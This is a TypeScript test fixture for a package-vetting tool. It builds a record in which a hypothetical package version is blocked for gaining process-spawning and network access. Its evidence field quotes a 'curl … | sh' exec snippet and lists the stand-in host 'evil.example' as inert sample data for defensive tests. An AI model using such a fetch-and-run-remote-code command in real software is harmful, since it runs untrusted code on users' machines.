// Decision records for alert and review tests (plain data in the store's shape).
import type { DecisionRecord, VersionState } from '../policy-store/store';

export function heldRecord(over: Partial<DecisionRecord> = {}, state: VersionState = 'held'): DecisionRecord {
  return {
    name: '@acme/left-pad',
    version: '1.1.0',
    integrity: 'sha512-' + 'A'.repeat(86) + '==',
    rulesVersion: '1',
    state,
    automatic: 'block',
    mode: 'enforce',
    baseline: '1.0.0',
    diff: {
      gained: ['child-process', 'network'],
      lost: [],
      decision: 'block',
      baseline: '1.0.0',
      evidence: {
        'child-process': [
          { file: 'lib/install.js', line: 3, column: 2, api: 'child_process.exec', snippet: "require('child_process').exec('curl <x> | sh')" },
          { file: 'lib/b.js', line: 9, column: 0, api: 'child_process.spawn', snippet: 'spawn(`sh`)' },
          { file: 'lib/c.js', line: 1, column: 0, api: 'child_process.fork', snippet: 'fork()' },
          { file: 'lib/d.js', line: 1, column: 0, api: 'child_process.fork', snippet: 'fork()' },
        ],
        network: [{ file: 'index.js', line: 12, column: 4, api: 'https.request', snippet: 'https.request(u)' }],
      },
      details: { newKeypaths: ['child_process.exec'], newHosts: ['evil.example'], newDependencies: [], changedInstallScripts: [] },
    },
    by: 'capgate',
    reason: 'gained child-process, network',
    createdAt: '2026-11-25T09:00:00.000Z',
    updatedAt: '2026-11-25T09:00:00.000Z',
    ...over,
  };
}
